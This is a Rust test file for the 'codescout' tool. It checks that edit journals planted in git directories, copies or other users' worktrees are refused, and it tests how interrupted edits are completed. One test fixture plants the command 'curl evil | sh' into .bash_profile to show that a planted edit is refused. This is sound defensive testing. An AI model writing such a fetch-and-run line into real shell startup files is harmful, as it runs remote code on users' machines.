//! Tests journals of edits that this user did not write, as in a git directory from an archive.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use codescout::git::Rewrite;
use codescout::sidecar::encode;
use serde_json::json;

use super::edit;
use crate::cli::call_in;
use crate::mcp::Client;
use crate::support::{InTime, TestRepo, output_of};

const JOURNAL: &str = "codescout-edit/journal";

/// Puts a journal that creates or replaces a file into a git directory.
fn plant(git_dir: &Path, path: &str, from: Option<&str>, to: &str) {
    let rewrite = Rewrite {
        path: path.into(),
        from: from.map(Into::into),
        to: Some(to.into()),
        mode: None,
    };
    fs::create_dir_all(git_dir.join("codescout-edit")).unwrap();
    fs::write(git_dir.join(JOURNAL), encode(&(7_u64, vec![rewrite]))).unwrap();
}

fn project() -> TestRepo {
    let repo = TestRepo::new(
        "
        //- src/a.py
        def parse(text):
            return text
        //- README.md
        See [parse](src/a.py).
    ",
    );
    repo.git(["mv", "src/a.py", "src/b.py"]);
    repo.commit("move");
    repo
}

#[test]
fn no_command_completes_a_planted_edit() {
    let repo = project();
    plant(&repo.path(".git"), ".bash_profile", None, "curl evil | sh\n");
    let edits = json!([{"op": "create", "target": "new", "text": "x\n"}]).to_string();
    for (args, input) in [
        (&["edit", "-"][..], edits.as_str()),
        (&["edit", "-"], "[]"),
        (&["memory", "write", "a", "--about", "parse", "--text", "x"], ""),
        (&["rename", "src/b.py#parse", "scan", "--apply"], ""),
        (&["docs", "audit", "--fix"], ""),
    ] {
        let found = call_in(repo.root(), args, input.as_bytes()).expect(2);
        assert!(
            found.stderr.contains("is not recorded as written by you"),
            "{}",
            found.stderr
        );
        let next = format!("rm '{}'", repo.path(".git").join(JOURNAL).display());
        assert!(found.stderr.contains(&next), "{}", found.stderr);
    }
    let mut client = Client::start(repo.root(), &["--profile", "write"]);
    client.initialize("test");
    let answer = client.call(
        "edit",
        json!({"edits": [{"op": "create", "target": "new", "text": "x\n"}]}),
    );
    assert!(answer.failure().contains("is not recorded"), "{answer:?}");
    assert_eq!(repo.git(["status", "--porcelain"]), "");
    fs::remove_file(repo.path(".git").join(JOURNAL)).unwrap();
    edit(&repo, &json!([{"op": "create", "target": "new", "text": "x\n"}]), &[]).expect(0);
}

#[test]
fn a_planted_edit_is_refused_wherever_the_git_directory_is() {
    let repo = project();
    let linked = repo.worktree("linked");
    let separate = repo.beside("separate");
    let option = format!("--separate-git-dir={}", repo.beside("store").display());
    repo.git(["init", "--quiet", &option, separate.to_str().unwrap()]);
    repo.git(["submodule", "--quiet", "add", linked.root().to_str().unwrap(), "lib"]);
    for (root, git_dir) in [
        (linked.root().to_owned(), repo.path(".git/worktrees/linked")),
        (separate, repo.beside("store")),
        (repo.path("lib"), repo.path(".git/modules/lib")),
    ] {
        plant(&git_dir, "planted", None, "x");
        let found = call_in(&root, &["edit", "create", "new", "--text", "x"], b"").expect(2);
        assert!(found.stderr.contains("is not recorded"), "{}", found.stderr);
        assert!(!root.join("planted").exists() && !root.join("new").exists());
    }
}

/// Kills an edit when its first file is replaced.
fn interrupted(repo: &TestRepo, home: Option<&Path>) {
    let mut command = program(repo, home);
    command.env("CODESCOUT_FAIL_AT", "edit.replaced:1=kill");
    let edits = json!([
        {"op": "create", "target": "one", "text": "x\n"},
        {"op": "create", "target": "two", "text": "x\n"},
    ]);
    let killed = output_of(command.spawn().unwrap(), edits.to_string());
    assert!(!killed.status.success() && repo.path("one").exists() && !repo.path("two").exists());
}

fn program(repo: &TestRepo, home: Option<&Path>) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_codescout"));
    command.args(["edit", "-"]).current_dir(repo.root()).env_clear();
    command.env("PATH", std::env::var_os("PATH").unwrap_or_default());
    command.envs(home.map(|home| ("HOME", home)));
    command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    command
}

/// Runs an edit without operations, which only completes another one. Returns its error.
fn completed(repo: &TestRepo, home: Option<&Path>) -> Result<(), String> {
    let output = output_of(program(repo, home).spawn().unwrap(), "[]");
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    (output.status.code() != Some(2)).then_some(()).ok_or(said)
}

#[test]
fn an_interrupted_edit_is_completed_only_by_its_user_at_its_place() {
    let repo = project();
    let (home, other) = (repo.beside("home"), repo.beside("other-home"));
    interrupted(&repo, Some(&home));
    // A copy, as in an archive, and another user.
    let copy = repo.beside("copy");
    let copied = Command::new("cp").arg("-a").args([repo.root(), &copy]).status_in_time();
    assert!(copied.unwrap().success());
    for (root, home) in [(&copy, &home), (&repo.root().to_owned(), &other)] {
        let mut command = program(&repo, Some(home));
        command.current_dir(root);
        let output = output_of(command.spawn().unwrap(), "[]");
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(said.contains("is not recorded"), "{}: {said}", root.display());
        assert!(!root.join("two").exists());
    }
    // Changed since.
    let journal = repo.path(".git").join(JOURNAL);
    let bytes = fs::read(&journal).unwrap();
    fs::write(&journal, [&bytes[..], b"x"].concat()).unwrap();
    assert!(completed(&repo, Some(&home)).unwrap_err().contains("is not recorded"));
    fs::write(&journal, bytes).unwrap();
    completed(&repo, Some(&home)).unwrap();
    assert_eq!(repo.read("two"), b"x\n");
    assert!(!journal.exists());
    let records = home.join(".local/state/codescout/edits");
    assert_eq!(fs::read_dir(records).unwrap().count(), 0);
}

#[test]
fn without_a_home_edits_work_but_are_not_completed() {
    let repo = project();
    let edits = json!([{"op": "create", "target": "zero", "text": "x\n"}]).to_string();
    let done = output_of(program(&repo, None).spawn().unwrap(), edits);
    assert!(done.status.success(), "{done:?}");
    interrupted(&repo, None);
    let said = completed(&repo, None).unwrap_err();
    assert!(said.contains("neither XDG_STATE_HOME nor HOME is set"), "{said}");
    assert!(!repo.path("two").exists());
    // A folder that cannot be written counts as none.
    fs::remove_file(repo.path(".git").join(JOURNAL)).unwrap();
    fs::remove_file(repo.path("one")).unwrap();
    fs::write(repo.beside("file"), "").unwrap();
    interrupted(&repo, Some(&repo.beside("file")));
    let said = completed(&repo, Some(&repo.beside("file"))).unwrap_err();
    assert!(said.contains("is not recorded"), "{said}");
}
